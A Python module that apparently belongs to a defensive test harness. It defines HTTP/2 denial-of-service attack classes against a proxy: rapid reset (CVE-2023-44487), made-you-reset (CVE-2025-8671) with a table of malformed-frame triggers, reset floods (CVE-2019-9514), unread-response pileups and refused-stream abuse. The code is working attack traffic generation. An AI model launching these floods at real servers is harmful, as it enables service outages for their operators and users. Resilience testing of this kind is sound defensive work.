"""A01 rapid reset, A02 made-you-reset, A09 reset flood: make the other side work, then take the work back."""

import struct

from messages import HELD, MALFORMED, QUICK, RESPONSE, TOO_LONG, request
from wire import (
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PRIORITY,
    Attack,
    frame,
    reset,
    split,
    window,
)

BATCH = 20


class RapidReset(Attack):
    """CVE-2023-44487: HEADERS and RST_STREAM at full speed, so that the stream count never fills."""

    def step(self, peer):
        out = b""
        for _ in range(BATCH):
            stream = peer.open_stream()
            out += request(stream, HELD) + reset(stream)
        return out


class SlowReset(Attack):
    """Just below what one connection is allowed, on many connections: what the next hop sees is the sum of them."""

    def tick(self, peer):
        # 60 ticks of 10 ms with one each: about 100 per second, which a hedging client may do for hours.
        stream = peer.open_stream()
        return request(stream, HELD) + reset(stream)


class MadeYouReset(Attack):
    """CVE-2025-8671: a request is begun, then a mistake makes the server reset it."""

    def __init__(self, mistake):
        self.mistake = mistake

    def step(self, peer):
        out = b""
        for _ in range(BATCH):
            out += self.mistake(peer.open_stream())
        return out


MISTAKES = {
    "window-update-0": lambda stream: request(stream, HELD) + window(stream, 0),
    "window-overflow": lambda stream: request(stream, HELD) + window(stream, 2**31 - 1),
    "priority-length": lambda stream: request(stream, HELD) + frame(PRIORITY, 0, stream, b"\0\0\0\0"),
    "priority-self": lambda stream: request(stream, HELD)
    + frame(PRIORITY, 0, stream, struct.pack("!IB", stream, 15)),
    "headers-after-end": lambda stream: request(stream, HELD, END_STREAM) + request(stream, HELD, END_STREAM),
    "data-after-end": lambda stream: request(stream, HELD, END_STREAM) + frame(DATA, 0, stream, b"x"),
    "content-length": lambda stream: request(stream, HELD, fields=[("content-length", "5")])
    + frame(DATA, END_STREAM, stream, b"x"),
}


class ResetFlood(Attack):
    """CVE-2019-9514: malformed requests, whose RST_STREAMs are never read."""

    reads = False
    small_buffers = True

    def step(self, peer):
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, peer.open_stream(), MALFORMED) for _ in range(BATCH))


class AnswersUnread(Attack):
    """Requests that the proxy answers by itself (no such route): the answers pile up when nobody reads them."""

    reads = False
    small_buffers = True

    def step(self, peer):
        return b"".join(request(peer.open_stream(), QUICK, END_STREAM) for _ in range(BATCH))


class TooLongUnread(Attack):
    """Requests over the header limit: each is answered 431."""

    bytes_factor = 10

    reads = False
    small_buffers = True

    def step(self, peer):
        return b"".join(split(TOO_LONG, peer.open_stream()) for _ in range(4))


class RefusedStreams(Attack):
    """Streams far beyond MAX_CONCURRENT_STREAMS, by a peer that never acknowledges the SETTINGS that say so."""

    def begin(self, peer):
        peer.state["never_acknowledges"] = True
        return b""

    def step(self, peer):
        return b"".join(request(peer.open_stream(), HELD) for _ in range(BATCH))


class BackendResets(Attack):
    """A backend that resets each request with its own mistakes."""

    positions = ("backend",)

    def __init__(self, mistake):
        self.mistake = mistake

    def on_request(self, peer, stream):
        return self.mistake(stream)


BACKEND_MISTAKES = {
    "backend-window-update-0": lambda stream: window(stream, 0),
    "backend-window-overflow": lambda stream: window(stream, 2**31 - 1),
    "backend-trailers-twice": lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, RESPONSE) * 2,
    "backend-resets-all": lambda stream: reset(stream, CANCEL),
}

ATTACKS = {
    "A01 rapid-reset": RapidReset(),
    "A01 slow-reset": SlowReset(),
    "A01 refused-streams": RefusedStreams(),
    **{"A02 " + name: MadeYouReset(mistake) for name, mistake in MISTAKES.items()},
    **{"A02 " + name: BackendResets(mistake) for name, mistake in BACKEND_MISTAKES.items()},
    "A09 reset-flood": ResetFlood(),
    "A09 answers-unread": AnswersUnread(),
    "A09 too-long-unread": TooLongUnread(),
}
